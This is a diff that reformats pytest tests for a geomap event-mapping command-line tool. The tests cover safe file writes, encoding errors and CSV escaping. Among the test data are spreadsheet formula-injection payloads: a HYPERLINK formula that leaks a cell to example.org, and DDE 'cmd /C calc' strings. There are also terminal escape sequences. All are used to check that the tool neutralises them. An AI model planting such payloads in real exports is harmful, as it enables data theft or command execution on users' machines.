@@ -69,16 +69,27 @@ def _other_spelling(events):
     return events.parent / "sub" / ".." / events.name
 
 
-@pytest.mark.parametrize("command, target", [
-    (["build", "{events}", "-o", "{out}"], lambda e: e),
-    (["build", "{events}", "-o", "{out}"], _hard_link),
-    (["build", "{events}", "-o", "{out}"], _other_spelling),
-    (["build", "{events}", "-o", "map.html", "--png", "{out}"], _symlink),
-    (["export", "{events}", "--format", "csv", "-o", "{out}"], lambda e: e),
-    (["export", "{events}", "-o", "{out}"], _hard_link),
-    (["export", "{events}", "-o", "{out}"], _symlink),
-], ids=["build-same", "build-hard-link", "build-dotdot", "png-symlink", "export-same",
-        "export-hard-link", "export-symlink"])
+@pytest.mark.parametrize(
+    "command, target",
+    [
+        (["build", "{events}", "-o", "{out}"], lambda e: e),
+        (["build", "{events}", "-o", "{out}"], _hard_link),
+        (["build", "{events}", "-o", "{out}"], _other_spelling),
+        (["build", "{events}", "-o", "map.html", "--png", "{out}"], _symlink),
+        (["export", "{events}", "--format", "csv", "-o", "{out}"], lambda e: e),
+        (["export", "{events}", "-o", "{out}"], _hard_link),
+        (["export", "{events}", "-o", "{out}"], _symlink),
+    ],
+    ids=[
+        "build-same",
+        "build-hard-link",
+        "build-dotdot",
+        "png-symlink",
+        "export-same",
+        "export-hard-link",
+        "export-symlink",
+    ],
+)
 def test_no_output_replaces_the_events_file(tmp_path, monkeypatch, events, command, target):
     monkeypatch.chdir(tmp_path)
     out = target(events)
@@ -86,8 +97,10 @@ def test_no_output_replaces_the_events_file(tmp_path, monkeypatch, events, comma
     result = run(*[part.format(events=events, out=out) for part in command])
     assert result.exit_code == 2, result.output
     option = "--png" if "--png" in command else "-o"
-    assert f"refusing to write {'PNG' if option == '--png' else 'output'} {out}: it is the input " \
-           f"events file {events}; choose another {option}." in result.output
+    assert (
+        f"refusing to write {'PNG' if option == '--png' else 'output'} {out}: it is the input "
+        f"events file {events}; choose another {option}." in result.output
+    )
     assert _fingerprint(tmp_path) == before  # nothing written, nothing removed
 
 
@@ -99,8 +112,10 @@ def test_no_draft_replaces_the_article(tmp_path):
     for draft in (article, link):
         result = run("extract", article, "--draft", draft)
         assert result.exit_code == 2
-        assert f"refusing to write draft {draft}: it is the article {article}; choose another --draft." \
+        assert (
+            f"refusing to write draft {draft}: it is the article {article}; choose another --draft."
             in result.output
+        )
     assert article.read_text(encoding="utf-8") == "<p>Protests took place in Kharkiv.</p>"
 
 
@@ -108,7 +123,9 @@ def test_the_map_and_the_png_are_not_one_file(tmp_path, events):
     out = tmp_path / "map.html"
     result = run("build", events, "-o", out, "--png", tmp_path / "." / "map.html")
     assert result.exit_code == 2
-    assert "refusing to write PNG" in result.output and "it is also the output (-o)" in result.output
+    assert (
+        "refusing to write PNG" in result.output and "it is also the output (-o)" in result.output
+    )
     assert not out.exists()
 
 
@@ -146,23 +163,39 @@ def _failing_writes(monkeypatch, code):
     monkeypatch.setattr(outputs.os, "fdopen", lambda fd, mode: Failing(fd))
 
 
-@pytest.mark.parametrize("command", [["build", "{events}", "-o", "{out}"],
-                                     ["export", "{events}", "--format", "csv", "-o", "{out}"]])
-@pytest.mark.parametrize("code, meaning, advice", [
-    (errno.ENOSPC, "No space left on device (ENOSPC)",
-     "Free some space on that disk, or write the file to another one."),
-    (errno.EDQUOT, "Disk quota exceeded (EDQUOT)",
-     "Free some of your disk quota, or write the file somewhere else."),
-])
-def test_full_disk_is_one_message_and_the_old_file_stays(tmp_path, monkeypatch, events, command, code,
-                                                          meaning, advice):
+@pytest.mark.parametrize(
+    "command",
+    [
+        ["build", "{events}", "-o", "{out}"],
+        ["export", "{events}", "--format", "csv", "-o", "{out}"],
+    ],
+)
+@pytest.mark.parametrize(
+    "code, meaning, advice",
+    [
+        (
+            errno.ENOSPC,
+            "No space left on device (ENOSPC)",
+            "Free some space on that disk, or write the file to another one.",
+        ),
+        (
+            errno.EDQUOT,
+            "Disk quota exceeded (EDQUOT)",
+            "Free some of your disk quota, or write the file somewhere else.",
+        ),
+    ],
+)
+def test_full_disk_is_one_message_and_the_old_file_stays(
+    tmp_path, monkeypatch, events, command, code, meaning, advice
+):
     out = tmp_path / "map.html"
     out.write_text(OLD_MAP, encoding="utf-8")
     _failing_writes(monkeypatch, code)
     result = run(*[part.format(events=events, out=out) for part in command])
     assert result.exit_code == 2
     assert result.output.strip().splitlines()[-1] == (
-        f"Error: cannot write {out}: {meaning}; the previous map.html is unchanged. {advice}")
+        f"Error: cannot write {out}: {meaning}; the previous map.html is unchanged. {advice}"
+    )
     assert out.read_text(encoding="utf-8") == OLD_MAP
     assert sorted(p.name for p in tmp_path.iterdir()) == ["events.yaml", "map.html"]  # no temporary
 
@@ -176,24 +209,41 @@ def test_a_real_file_size_limit_is_one_message(tmp_path, report_path):
         signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # else the kernel kills instead of failing
         resource.setrlimit(resource.RLIMIT_FSIZE, (20_000, 20_000))
 
-    proc = subprocess.run(_geomap("build", report_path, "-o", out), cwd=tmp_path, capture_output=True,
-                          text=True, preexec_fn=limit, check=False)
+    proc = subprocess.run(
+        _geomap("build", report_path, "-o", out),
+        cwd=tmp_path,
+        capture_output=True,
+        text=True,
+        preexec_fn=limit,
+        check=False,
+    )
     assert proc.returncode == 2
-    assert proc.stderr.strip() == (f"Error: cannot write {out}: File too large (EFBIG); the previous "
-                                   "map.html is unchanged. Write the file to a disk that takes larger files.")
+    assert proc.stderr.strip() == (
+        f"Error: cannot write {out}: File too large (EFBIG); the previous "
+        "map.html is unchanged. Write the file to a disk that takes larger files."
+    )
     assert out.read_text(encoding="utf-8") == OLD_MAP
     assert [p.name for p in tmp_path.iterdir()] == ["map.html"]
 
 
 @pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs Linux's /dev/full (always full)")
-@pytest.mark.parametrize("command", [["export", "{events}", "--format", "csv"], ["geocode", "Kharkov"]])
+@pytest.mark.parametrize(
+    "command", [["export", "{events}", "--format", "csv"], ["geocode", "Kharkov"]]
+)
 def test_standard_output_on_a_full_disk_is_one_message(events, command):
     with open("/dev/full", "w") as full:
-        proc = subprocess.run(_geomap(*[part.format(events=events) for part in command]), stdout=full,
-                              stderr=subprocess.PIPE, text=True, check=False)
+        proc = subprocess.run(
+            _geomap(*[part.format(events=events) for part in command]),
+            stdout=full,
+            stderr=subprocess.PIPE,
+            text=True,
+            check=False,
+        )
     assert proc.returncode == 2
-    assert proc.stderr == ("Error: cannot write standard output: No space left on device (ENOSPC). "
-                           "Free some space, or send the output somewhere else.\n")
+    assert proc.stderr == (
+        "Error: cannot write standard output: No space left on device (ENOSPC). "
+        "Free some space, or send the output somewhere else.\n"
+    )
 
 
 # --- bytes that are not UTF-8 on the command line ------------------------------------------------
@@ -205,18 +255,27 @@ def _text_parameters():
     """(command, parameter) for every parameter that takes text, not a path or a flag."""
     for name, command in cli.commands.items():
         for param in command.params:
-            if isinstance(param.type, (click.Path, click.Choice, click.DateTime)) or \
-                    getattr(param, "is_flag", False) or param.name == "help":
+            if (
+                isinstance(param.type, (click.Path, click.Choice, click.DateTime))
+                or getattr(param, "is_flag", False)
+                or param.name == "help"
+            ):
                 continue
             yield name, param
 
 
 # What each command needs besides the parameter under test.
-_REQUIRED = {"check": ["{events}"], "export": ["{events}"], "embed": ["{map}"], "extract": ["{events}"]}
+_REQUIRED = {
+    "check": ["{events}"],
+    "export": ["{events}"],
+    "embed": ["{map}"],
+    "extract": ["{events}"],
+}
 
 
-@pytest.mark.parametrize("command, param", list(_text_parameters()),
-                         ids=[f"{c}-{p.name}" for c, p in _text_parameters()])
+@pytest.mark.parametrize(
+    "command, param", list(_text_parameters()), ids=[f"{c}-{p.name}" for c, p in _text_parameters()]
+)
 def test_every_text_option_refuses_bytes_that_are_not_utf8(tmp_path, events, command, param):
     page = tmp_path / "map.html"
     page.write_text(OLD_MAP, encoding="utf-8")
@@ -232,33 +291,51 @@ def test_every_text_option_refuses_bytes_that_are_not_utf8(tmp_path, events, com
     before = _fingerprint(tmp_path)
     result = run(command, *args)
     assert result.exit_code == 2
-    assert (f"Error: {name} is not valid UTF-8 (byte 0xff at character 9 of 'Kharkiv \\xff\\xfe'). "
-            "Give the text in UTF-8") in result.output
+    assert (
+        f"Error: {name} is not valid UTF-8 (byte 0xff at character 9 of 'Kharkiv \\xff\\xfe'). "
+        "Give the text in UTF-8"
+    ) in result.output
     assert _fingerprint(tmp_path) == before
 
 
 def test_text_options_are_checked(tmp_path):
     """The list above is not empty by accident: it holds the options users type text into."""
     names = {(c, p.name) for c, p in _text_parameters()}
-    assert {("build", "title"), ("build", "layers"), ("embed", "title"), ("embed", "url"),
-            ("embed", "map_html"), ("geocode", "names"), ("geocode", "country")} <= names
+    assert {
+        ("build", "title"),
+        ("build", "layers"),
+        ("embed", "title"),
+        ("embed", "url"),
+        ("embed", "map_html"),
+        ("geocode", "names"),
+        ("geocode", "country"),
+    } <= names
 
 
 def test_a_real_non_utf8_title_leaves_the_old_map(tmp_path, report_path):
     out = tmp_path / "map.html"
     out.write_text(OLD_MAP, encoding="utf-8")
-    proc = subprocess.run(_geomap("build", report_path, "-o", out, "--title", b"Refusals \xe9t\xe9"),
-                          cwd=tmp_path, capture_output=True, text=True, check=False)
+    proc = subprocess.run(
+        _geomap("build", report_path, "-o", out, "--title", b"Refusals \xe9t\xe9"),
+        cwd=tmp_path,
+        capture_output=True,
+        text=True,
+        check=False,
+    )
     assert proc.returncode == 2 and "Traceback" not in proc.stderr
-    assert "--title is not valid UTF-8 (byte 0xe9 at character 10 of 'Refusals \\xe9t\\xe9')" in proc.stderr
+    assert (
+        "--title is not valid UTF-8 (byte 0xe9 at character 10 of 'Refusals \\xe9t\\xe9')"
+        in proc.stderr
+    )
     assert out.read_text(encoding="utf-8") == OLD_MAP
 
 
 def test_a_path_that_is_not_utf8_still_works_and_is_shown_escaped(tmp_path, report_path):
     """File names may be any bytes: they are read and written, and shown with \\x escapes."""
     out = os.fsencode(tmp_path) + b"/carte-\xe9t\xe9.html"
-    proc = subprocess.run(_geomap("build", report_path, "-o", out), cwd=tmp_path, capture_output=True,
-                          check=False)
+    proc = subprocess.run(
+        _geomap("build", report_path, "-o", out), cwd=tmp_path, capture_output=True, check=False
+    )
     assert proc.returncode == 0, proc.stderr
     assert os.path.exists(out)
     assert b"carte-\\xe9t\\xe9.html" in proc.stdout
@@ -267,7 +344,9 @@ def test_a_path_that_is_not_utf8_still_works_and_is_shown_escaped(tmp_path, repo
 # --- numbers of thousands of digits ------------------------------------------------------------
 
 
-@pytest.mark.parametrize("height", ["9" * 5000, "1" * 5000 + "px", "16:" + "9" * 4400, "٦٠٠", "600 px"])
+@pytest.mark.parametrize(
+    "height", ["9" * 5000, "1" * 5000 + "px", "16:" + "9" * 4400, "٦٠٠", "600 px"]
+)
 def test_embed_height_of_any_length_is_a_clean_error(tmp_path, height):
     page = tmp_path / "map.html"
     page.write_text("<title>Map</title>", encoding="utf-8")
@@ -277,9 +356,13 @@ def test_embed_height_of_any_length_is_a_clean_error(tmp_path, height):
     assert len(result.output) < 400  # the bad value is shortened, not echoed in full
 
 
-@pytest.mark.parametrize("size", ["99999999999x1", "1200x" + "8" * 5000, "１２００x800", "1200x800x2"])
+@pytest.mark.parametrize(
+    "size", ["99999999999x1", "1200x" + "8" * 5000, "１２００x800", "1200x800x2"]
+)
 def test_png_size_of_any_length_is_a_clean_error(tmp_path, events, size):
-    result = run("build", events, "-o", tmp_path / "m.html", "--png", tmp_path / "m.png", "--png-size", size)
+    result = run(
+        "build", events, "-o", tmp_path / "m.html", "--png", tmp_path / "m.png", "--png-size", size
+    )
     assert result.exit_code == 2
     assert "Invalid value for --png-size: expected WIDTHxHEIGHT such as 1200x800" in result.output
     assert len(result.output) < 400
@@ -299,7 +382,7 @@ def test_exported_cells_never_start_a_formula(tmp_path):
     text = _exported_csv(tmp_path, CORPUS / "formula-cells.yaml").read_text(encoding="utf-8")
     cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
     assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
-    assert "'=HYPERLINK(\"https://example.org/?leak=\"&B2,\"Open the source\")" in cells
+    assert '\'=HYPERLINK("https://example.org/?leak="&B2,"Open the source")' in cells
     assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
     assert "'-2+3+cmd|' /C calc'!A0" in cells
     assert "''Tis the season: a text that really begins with a quote" in cells
@@ -311,10 +394,22 @@ def test_exported_csv_loads_back_to_the_same_text(tmp_path):
     source = CORPUS / "formula-cells.yaml"
     original = locate([source])
     again = locate([_exported_csv(tmp_path, source)])
-    for column in ("id", "title", "summary", "reported_by", "precision_note", "source_title",
-                   "source_publisher", "tags"):
+    for column in (
+        "id",
+        "title",
+        "summary",
+        "reported_by",
+        "precision_note",
+        "source_title",
+        "source_publisher",
+        "tags",
+    ):
         assert list(again[column]) == list(original[column]), column
-    assert [[p["written"] for p in ps] for ps in again["places"]] == [["Kharkiv"], ["Kharkiv"], ["Odessa"]]
+    assert [[p["written"] for p in ps] for ps in again["places"]] == [
+        ["Kharkiv"],
+        ["Kharkiv"],
+        ["Odessa"],
+    ]
 
 
 def test_a_lone_carriage_return_stays_inside_its_cell(tmp_path, events_file):
@@ -326,8 +421,26 @@ def test_a_lone_carriage_return_stays_inside_its_cell(tmp_path, events_file):
     assert (again["title"][0], again["summary"][0]) == ("Old line\rnew line", "=1\r+2")
 
 
-@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "'", "'=1", "''", "'Tis", "",
-                                  "plain", "a=1", "=", "'\t"])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "=1+1",
+        "+1",
+        "-1",
+        "@A1",
+        "\t=1",
+        "\r=1",
+        "'",
+        "'=1",
+        "''",
+        "'Tis",
+        "",
+        "plain",
+        "a=1",
+        "=",
+        "'\t",
+    ],
+)
 def test_escaping_is_reversible(text):
     assert unescape_cell(escape_cell(text)) == text
 
@@ -339,11 +452,17 @@ def test_a_hand_typed_apostrophe_is_kept():
 
 def test_a_hand_written_csv_with_escaped_cells_loads(tmp_path):
     path = tmp_path / "e.csv"
-    path.write_text("id,layer,title,summary,date,places,certainty\n"
-                    "one,protests,'@SUM(A1:A9),'Tis true,2022-03-01,'=Kharkiv;Odessa,reported\n",
-                    encoding="utf-8")
+    path.write_text(
+        "id,layer,title,summary,date,places,certainty\n"
+        "one,protests,'@SUM(A1:A9),'Tis true,2022-03-01,'=Kharkiv;Odessa,reported\n",
+        encoding="utf-8",
+    )
     event = load_events(path).events[0]
-    assert (event.title, event.summary, event.places) == ("@SUM(A1:A9)", "'Tis true", ["=Kharkiv", "Odessa"])
+    assert (event.title, event.summary, event.places) == (
+        "@SUM(A1:A9)",
+        "'Tis true",
+        ["=Kharkiv", "Odessa"],
+    )
 
 
 # --- script addresses in embed -----------------------------------------------------------------
@@ -385,12 +504,18 @@ def test_embed_checks_the_map_path_used_as_the_address(tmp_path, monkeypatch, na
 
 def test_embed_refuses_a_title_with_a_control_character(page):
     result = run("embed", page, "--title", "Map\x9b2J")
-    assert result.exit_code == 2 and "control character" in result.output and "\x9b" not in result.output
+    assert (
+        result.exit_code == 2
+        and "control character" in result.output
+        and "\x9b" not in result.output
+    )
 
 
 # --- terminal escapes ------------------------------------------------------------------------------
 
-ESCAPES = [line for line in (CORPUS / "terminal-escapes.txt").read_text(encoding="utf-8").splitlines()]
+ESCAPES = [
+    line for line in (CORPUS / "terminal-escapes.txt").read_text(encoding="utf-8").splitlines()
+]
 RAW_CONTROLS = ("\x1b", "\x07", "\x9b", "\u202e")
 
 
@@ -414,11 +539,14 @@ def test_a_tab_in_a_name_does_not_make_a_column():
 
 
 def test_build_and_check_show_escapes_in_paths_and_layer_names(tmp_path, events_file):
-    events = events_file(text=(
-        # The schema refuses C0 controls in names, not C1: CSI (0x9b) is ESC [ in one character.
-        "title: Escapes\nlayers:\n  - {id: strikes, name: \"Strikes\\x9b2J\", color: '#b2182b'}\n"
-        "events:\n  - {id: one, layer: strikes, title: T, summary: S, date: 2022-03-01, places: [Kharkiv],"
-        " certainty: reported}\n"))
+    events = events_file(
+        text=(
+            # The schema refuses C0 controls in names, not C1: CSI (0x9b) is ESC [ in one character.
+            "title: Escapes\nlayers:\n  - {id: strikes, name: \"Strikes\\x9b2J\", color: '#b2182b'}\n"
+            "events:\n  - {id: one, layer: strikes, title: T, summary: S, date: 2022-03-01, places: [Kharkiv],"
+            " certainty: reported}\n"
+        )
+    )
     renamed = events.with_name("ev\x1b[2J.yaml")
     events.rename(renamed)
     built = run("build", renamed, "-o", tmp_path / "m\x1b[31m.html")
@@ -441,7 +569,10 @@ def test_extract_shows_escapes_in_the_article_name(tmp_path):
 
 
 def test_visible():
-    assert visible("a\x1b[2J\x07\t\n\x9b\u202e\udcff\x7f") == "a\\x1b[2J\\x07\\t\\n\\x9b\\u202e\\xff\\x7f"
+    assert (
+        visible("a\x1b[2J\x07\t\n\x9b\u202e\udcff\x7f")
+        == "a\\x1b[2J\\x07\\t\\n\\x9b\\u202e\\xff\\x7f"
+    )
     assert visible("line\nnext\x1b", newlines=True) == "line\nnext\\x1b"
     assert visible("Харків, Kraków, C:\\maps") == "Харків, Kraków, C:\\maps"
 
@@ -464,8 +595,11 @@ outputs.write_atomic(sys.argv[1], "from the blocked writer")
 
 
 def _blocked_writer(out, flag):
-    proc = subprocess.Popen([sys.executable, "-c", _BLOCKED_WRITER, str(out), str(flag)],
-                            stdout=subprocess.PIPE, text=True)
+    proc = subprocess.Popen(
+        [sys.executable, "-c", _BLOCKED_WRITER, str(out), str(flag)],
+        stdout=subprocess.PIPE,
+        text=True,
+    )
     assert proc.stdout.readline() == "written\n"  # its temporary file exists now
     return proc
 
